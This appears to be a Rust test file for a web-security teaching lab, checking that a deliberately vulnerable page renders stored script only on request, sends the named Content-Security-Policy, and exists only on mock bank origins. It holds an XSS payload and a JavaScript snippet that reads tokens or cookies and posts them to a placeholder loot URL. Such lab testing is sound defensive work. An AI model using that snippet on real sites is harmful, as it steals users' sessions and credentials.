//! The page with a hole in it: it has the hole only where it is asked for, under the policy that was named, and on the origins
//! of the lab's banks alone.

use anyhow::{Context, Result};
use reqwest::{Response, StatusCode};
use serde_json::{Value, json};
use tests::{ExperimentPage, SpawnedLab, visit, walk};

const SCRIPT: &str = "<script>steal()</script>";
const POLICY: &str = "content-security-policy";

/// Stores a note as Mallory, under a mark, as the experiment does.
async fn store(lab: &SpawnedLab, mark: &str) -> Result<()> {
    let jwt = &lab.origins().jwt;
    let login = json!({ "username": "mallory", "password": "man-in-the-middle" });
    let post = |path: &str, body: Value| lab.client().post(format!("{jwt}{path}")).json(&body);
    let tokens: Value = post("/login", login).send().await?.json().await?;
    let token = tokens["access_token"].as_str().context("no token")?;
    let note = post("/notes", json!({ "text": format!("{mark}\n{SCRIPT}") }));
    let stored = note.bearer_auth(token).send().await?;
    assert_eq!(stored.status(), StatusCode::CREATED);
    Ok(())
}

async fn page(lab: &SpawnedLab, origin: &str, query: &str) -> Result<Response> {
    let url = format!("{origin}/stage/vulnerable/a/label?{query}");
    Ok(lab.client().get(url).send().await?)
}

fn policy(answer: &Response) -> String {
    let found = answer.headers().get(POLICY);
    let text = found.and_then(|value| value.to_str().ok());
    text.unwrap_or_default().to_owned()
}

#[tokio::test]
async fn a_stored_script_is_markup_where_the_page_is_asked_to_be_raw_and_a_text_everywhere_else()
-> Result<()> {
    let lab = SpawnedLab::start().await?;
    store(&lab, "mine").await?;
    for origin in [&lab.origins().session, &lab.origins().jwt] {
        let raw = page(&lab, origin, "note=mine&output=dangerously-raw").await?;
        assert!(raw.text().await?.contains(SCRIPT), "{origin}");
        for output in ["", "&output=escaped", "&output=dangerously-inner-html"] {
            let sound = page(&lab, origin, &format!("note=mine{output}")).await?;
            let text = sound.text().await?;
            assert!(
                text.contains("steal()") && !text.contains(SCRIPT),
                "{output}: {text}"
            );
        }
        let other = page(&lab, origin, "note=another&output=dangerously-raw").await?;
        assert!(!other.text().await?.contains("steal()"), "{origin}");
    }
    lab.stop().await;
    Ok(())
}

#[tokio::test]
async fn the_page_has_exactly_the_policy_that_was_named_and_no_other_can_be_worded() -> Result<()> {
    let lab = SpawnedLab::start().await?;
    let origin = &lab.origins().session;
    let inline = "default-src 'self'; script-src 'self' 'unsafe-inline';";
    for (name, declared) in [
        ("none", "frame-ancestors 'self'".to_owned()),
        (
            "connect-src",
            "connect-src 'self'; frame-ancestors 'self'".to_owned(),
        ),
        ("default-src", format!("{inline} frame-ancestors 'self'")),
        (
            "form-action",
            format!("{inline} form-action 'self'; frame-ancestors 'self'"),
        ),
        (
            "trusted-types",
            "require-trusted-types-for 'script'; frame-ancestors 'self'".to_owned(),
        ),
    ] {
        let answer = page(&lab, origin, &format!("note=a&policy={name}")).await?;
        assert_eq!(policy(&answer), declared, "{name}");
    }
    let mut nonces = Vec::new();
    for query in ["note=a&policy=nonce", "note=a"] {
        let answer = page(&lab, origin, query).await?;
        let declared = policy(&answer);
        let nonce = declared
            .strip_prefix("script-src 'nonce-")
            .and_then(|rest| rest.split_once("'; base-uri 'none'; frame-ancestors 'self'"))
            .filter(|(nonce, rest)| nonce.len() == 32 && rest.is_empty());
        let (nonce, _) = nonce.with_context(|| declared.clone())?;
        nonces.push(nonce.to_owned());
        let text = answer.text().await?;
        assert_eq!(text.matches(&format!("nonce=\"{nonce}\"")).count(), 1);
    }
    assert_ne!(nonces[0], nonces[1], "a nonce is used once");
    for query in [
        "note=a&policy=script-src%20*",
        "note=a&output=raw",
        "note=a&keep=anywhere",
        "policy=none",
    ] {
        let refused = page(&lab, origin, query).await?;
        assert_eq!(refused.status(), StatusCode::BAD_REQUEST, "{query}");
    }
    lab.stop().await;
    Ok(())
}

#[tokio::test]
async fn no_origin_without_a_bank_behind_it_has_such_a_page() -> Result<()> {
    let lab = SpawnedLab::start().await?;
    let origins = lab.origins();
    for origin in [
        &origins.app,
        &origins.blog,
        &origins.evil,
        &origins.partner,
        &origins.twin,
    ] {
        let host = origin.trim_start_matches("http://");
        let port = host.rsplit(':').next().unwrap_or_default();
        let url = format!("http://127.0.0.1:{port}/stage/vulnerable/a?note=a");
        let answer = lab.client().get(url).header("host", host).send().await?;
        assert_eq!(answer.status(), StatusCode::NOT_FOUND, "{origin}");
    }
    lab.stop().await;
    Ok(())
}

/// Disguises what it finds, and where it finds nothing, sends nothing.
const DISGUISED: &str = "
const found = localStorage.getItem('token') ?? document.cookie;
if (found !== '') fetch('{loot}', { method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(found) });";

#[tokio::test]
async fn a_script_that_sends_nothing_and_one_that_disguises_its_loot_prove_nothing() -> Result<()> {
    visit(async |visit| {
        let definition = walk::definition(&visit.lab, "xss").await?;
        let page = ExperimentPage::open(&visit.browser, &visit.lab.origins().app, "xss").await?;
        let write = "const field = document.querySelector('#input-script'); field.value = arguments[0]; field.dispatchEvent(new Event('input'));";
        visit.browser.run::<Value>(write, json!(DISGUISED)).await?;
        let run = page.run(&definition).await?;
        assert_eq!(run.state, "done", "{}", run.line);
        let outcomes = run.outcomes();
        for place in ["local-storage", "closure", "readable-cookie", "http-only-cookie"] {
            assert_eq!(outcomes.get(&format!("theft/{place}/broken")), None, "{place}");
            assert_eq!(outcomes[&format!("theft/{place}/sound")], "not-stolen", "{place}");
        }
        assert_eq!(outcomes["ridden/http-only-cookie/broken"], "money-moved");
        assert_eq!(outcomes["channels/fetch/none"], "leaked");
        visit.browser.console().await?; // What a policy refuses, the console says, and that is what is shown.
        Ok(())
    })
    .await
}
